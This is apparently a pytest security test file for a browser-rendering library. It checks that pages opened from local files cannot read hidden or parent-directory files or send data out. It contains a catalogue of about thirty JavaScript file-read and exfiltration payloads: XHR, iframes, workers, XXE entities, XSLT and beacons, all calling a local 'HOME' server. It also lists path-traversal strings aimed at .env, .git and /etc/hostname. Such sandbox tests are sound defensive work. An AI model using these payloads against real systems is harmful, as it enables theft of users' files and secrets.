"""What a stranger's page tries when it is opened from a file: read what lies around it, and send it home."""

import os
import threading
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import blocksight as bs
import pytest
from blocksight.render.network.local_server import QuietHandler, serve

pytestmark = pytest.mark.browser
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c49444154789c6338c1c001000306010116bfc6a20000000049454e44ae426082"
)
#: Functions of a file's address; each tells what it could read.
ATTACKS = {
    "error": "put('script', {src: url})",
    "error-of-a-module": "put('script', {src: url, type: 'module'})",
    "module": "import(url).catch(e => leak(e))",
    "json-module": "import(url, {with: {type: 'json'}}).then(m => leak(JSON.stringify(m.default)), () => 0)",
    "css-module": "import(url, {with: {type: 'css'}}).then(m => leak(rules(m.default)), () => 0)",
    "rules": "put('link', {rel: 'stylesheet', href: url}).onload = e => leak(rules(e.target.sheet))",
    "imported-rules": "put('style', {textContent: `@import '${url}'`}).onload = e =>"
    " leak(rules(e.target.sheet.cssRules[0].styleSheet))",
    "fetch": "fetch(url).then(r => r.text()).then(leak, () => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => leak(x.responseText); x.send()",
    "xml": "const x = new XMLHttpRequest(); x.open('GET', url); x.overrideMimeType('text/xml'); x.onload = () =>"
    " leak(x.responseXML.documentElement.outerHTML); x.send()",
    "iframe": "put('iframe', {src: url}).onload = e => leak(e.target.contentDocument.documentElement.textContent)",
    "object": "put('object', {data: url}).onload = e => leak(e.target.contentDocument.documentElement.textContent)",
    "embed": "put('embed', {src: url}).onload = e => leak(e.target.getSVGDocument().documentElement.textContent)",
    "prefetch": "put('link', {rel: 'prefetch', href: url}).onload = () =>"
    " fetch(url, {cache: 'only-if-cached', mode: 'same-origin'}).then(r => r.text()).then(leak, () => 0)",
    "preload": "put('link', {rel: 'preload', as: 'fetch', href: url, crossOrigin: ''}).onload = () =>"
    " fetch(url).then(r => r.text()).then(leak, () => 0)",
    "worker": "new Worker(url).onerror = e => leak(e.message)",
    "worker-import": "worker(`try { importScripts('${url}') } catch (e) { postMessage(String(e)) }`)",
    "worker-fetch": "worker(`fetch('${url}').then(r => r.text()).then(postMessage, () => 0)`)",
    "subtitles": "const t = document.createElement('track'); t.src = url; t.default = true; t.kind = 'subtitles';"
    "put('video', {}).append(t); t.track.mode = 'showing'; t.onload = () => leak([...t.track.cues].map(c => c.text))",
    "events": "new EventSource(url).onmessage = e => leak(e.data)",
    "pixels": "const i = new Image(); i.onload = () => { const d = document.createElement('canvas').getContext('2d');"
    "d.drawImage(i, 0, 0); leak('SECRET' + d.getImageData(0, 0, 1, 1).data) }; i.src = url",
    # Slow to begin, or not read by any browser that is known; they must not begin to be.
    "shared-worker": "new SharedWorker(url).onerror = e => leak(e.message)",
    "xslt": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet "
    "version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><b><xsl:copy-of "
    "select=\"document('${url}')\"/></b></xsl:template></xsl:stylesheet>`, 'text/xml'));"
    "leak(x.transformToFragment(new DOMParser().parseFromString('<x/>', 'text/xml'), document).textContent)",
    "source-map": "put('script', {textContent: `1 //# sourceMappingURL=${url}`})",
    "entity": "leak(new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e SYSTEM '${url}'>]><x>&e;</x>`, 'text/xml')"
    ".documentElement.textContent)",
    "svg-use": "document.body.insertAdjacentHTML('beforeend', `<svg><use href='${url}#x'/></svg>`)",
    "css-url": "put('p', {style: `background: url('${url}'); mask: url('${url}#x'); filter: url('${url}#x')`})",
    "font": "new FontFace('x', `url('${url}')`).load().then(() => leak('SECRET font'), () => 0)",
    "worklet": "CSS.paintWorklet.addModule(url).catch(leak)",
    "popup": "const w = open(url); setTimeout(() => leak(w.document.documentElement.textContent), 300)",
    "speculation": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', "
    "urls: [url], eagerness: 'immediate'}]})}); setTimeout(() => fetch(url, {cache: 'force-cache'})"
    ".then(r => r.text()).then(leak, () => 0), 300)",
}
UNSURE = "shared-worker xslt source-map entity svg-use css-url font worklet popup".split()
#: Files that a page may not read, whatever their kind: hidden ones, and some that are neither style nor script.
SECRETS = {
    ".env": "SECRETKEY = SECRETVALUE",
    ".hidden.css": ".SECRET { color: red }",
    ".hidden.js": "SECRETNAME",
    ".hidden.json": '{"a": "SECRET"}',
    ".hidden.svg": "<svg xmlns='http://www.w3.org/2000/svg'><text id='x'>SECRET</text></svg>",
    ".hidden.vtt": "WEBVTT\n\n00:00.000 --> 00:09.000\nSECRET\n",
    ".hidden.xml": "<x>SECRET</x>",
    ".git/config.js": "SECRETNAME",
    "notes.txt": "SECRETNAME",
    "data.json": '{"a": "SECRET"}',
    "private.html": "<p>SECRET",
    "stream.events": "data: SECRET\n\n",
}
#: Ways out of the folder.
OUT = (
    "../above.js ../above.css ..%2fabove.js ..%2fabove.css %2e%2e/above.js %2e%2e%2fabove.css ..%5cabove.js "
    "sub/..%2f..%2fabove.css ..%252fabove.js .%2e/above.css //etc/hostname /..%2f..%2f..%2f..%2fetc/hostname "
    "file:///etc/hostname out.js out.css out.png outer/above.js"
).split()
PAGE = """<!doctype html><title>t</title><link rel=stylesheet href=style.css><body><p id=text>text</p>
<img src=picture.png><script src=script.js></script><script>
const send = text => { new Image().src = "HOME/image?" + encodeURIComponent(text) };
const home = text => {
  const leak = text, f = document.createElement("iframe"), l = document.createElement("link");
  send(text);
  fetch("HOME/fetch?" + leak, {mode: "no-cors"}).catch(() => 0);
  navigator.sendBeacon("HOME/beacon?" + leak);
  new WebSocket("HOME/socket?".replace("http", "ws") + leak);
  l.rel = "stylesheet"; l.href = "HOME/style?" + leak; document.head.append(l);
  f.src = "HOME/frame?" + leak; document.body.append(f);
};
const rules = sheet => [...sheet.cssRules].map(rule => rule.cssText).join();
const put = (name, given) => {
  const node = document.createElement(name), {style = "", ...rest} = given;
  Object.assign(node, rest); node.style = style; document.body.append(node); return node };
const say = text => { put("p", {textContent: text}); send(text) };
const attack = (name, url, body) => {
  const leak = text => { if (String(text).includes("SECRET")) say(`${name} of ${url}: ${text}`) };
  const worker = text => new Worker(URL.createObjectURL(new Blob([text]))).onmessage = e => leak(e.data);
  if (name.startsWith("error"))
    addEventListener("error", e => { if (e.filename === url) leak(e.message) });
  try { body(url, leak, worker) } catch (e) { leak(e) }
};
home("PING");
const base = location.href.replace(/[^/]*$/, "");
for (const file of FILES) { const url = new URL(file, base).href; RUN }
</script>"""


class Home(QuietHandler):
    """Notes what is sent home."""

    def do_GET(self):
        self.server.requested.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET


@contextmanager
def home():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Home)
    server.daemon_threads, server.requested, server.request_queue_size = True, [], 128
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """The folder of the page, with what it may have and what it may not."""
    top = tmp_path_factory.mktemp("all")
    folder = top / "site"
    for name, text in SECRETS.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    (folder / ".hidden.png").write_bytes(PNG)
    (folder / "sub").mkdir()
    (top / "above.css").write_text(".SECRET { color: red }")
    (top / "above.js").write_text("SECRETNAME")
    (top / "above.png").write_bytes(PNG)
    if os.name == "posix":
        (folder / "outer").symlink_to(top)
        for name in ("css", "js", "png"):
            (folder / f"out.{name}").symlink_to(top / f"above.{name}")
    (folder / "style.css").write_text("#text { font-size: 30px }")
    (folder / "script.js").write_text("document.body.insertAdjacentHTML('beforeend', '<p>scripted</p>')")
    (folder / "picture.png").write_bytes(PNG)
    return folder


class Files(QuietHandler, SimpleHTTPRequestHandler):
    """Answers with files, hidden or not."""

    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".events": "text/event-stream"}


@contextmanager
def attacking(site, files, attacks=ATTACKS):
    """Write the page; yields its name, and the server that it tells."""
    with home() as server:
        calls = "".join(
            f"attack('{name}', url, (url, leak, worker) => {{ {body} }});" for name, body in attacks.items()
        )
        page = PAGE.replace("HOME", f"http://127.0.0.1:{server.server_port}")
        (site / "page.html").write_text(page.replace("FILES", str(list(files))).replace("RUN", "".join(calls)))
        yield "page.html", server


def options(**given):
    return bs.RenderOptions(allow_private=True, timeout=60.0, settle=3.0, settle_cap=30.0, scroll=0, **given)


HIDDEN = [*SECRETS, ".hidden.png"]


@pytest.fixture(scope="module")
def over_http(site, browser):
    """What the attacks get where nothing holds them back: from a server that has these files."""
    with attacking(site, HIDDEN) as (name, server), serve(partial(Files, directory=str(site))) as address:
        page = browser.open(f"{address}/{name}", options=options())
        return "\n".join(page.leaf_texts), "\n".join(server.requested)


@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in UNSURE])
def test_the_attacks_are_real(over_http, name):
    text, requests = over_http
    assert f"{name} of " in text
    assert f"{name}%20of%20" in requests


@pytest.fixture(scope="module", params=[HIDDEN, OUT], ids=["hidden", "above"])
def as_file(request, site, browser):
    with attacking(site, request.param) as (name, server):
        return browser.open(site / name, options=options()), server.requested


def test_a_file_sends_nothing(as_file):
    assert as_file[1] == []


def test_a_file_reads_nothing_hidden_and_nothing_above(as_file):
    assert "SECRET" not in "".join(as_file[0].leaf_texts)


def test_a_file_has_what_it_needs(as_file):
    page, _ = as_file
    assert page.leaf_texts[:2] == ("text", "scripted")
    assert page.geometry.font_size[page.leaves[0]] == 30


def test_a_file_with_an_address_has_the_network_and_no_files(site, browser):
    with attacking(site, [*HIDDEN, "style.css", "script.js"]) as (name, server):
        page = browser.open(site / name, url="http://127.0.0.1:9/page.html", options=options())
        assert page.leaf_texts[0] == "text"
        assert page.geometry.font_size[page.leaves[0]] == 16
        assert not any("scripted" in text or "SECRET" in text for text in page.leaf_texts)
        assert server.requested
        assert all(way.endswith("?PING") for way in server.requested)


SECURE = (
    b"<!doctype html><p id=p></p><p>Some more words</p><script>p.textContent = `secure: ${isSecureContext}`</script>"
)


def test_a_document_without_network_is_a_secure_context(browser, tmp_path):
    (tmp_path / "page.html").write_bytes(SECURE)

    def text(source, **given):
        return bs.extract(browser.open(source, options=options(**given)), system="everything").text

    assert "secure: true" in text(SECURE, offline=True)
    assert "secure: true" in text(tmp_path / "page.html")
    # With network, insecure style sheets and scripts have to load.
    assert "secure: false" in text(SECURE)
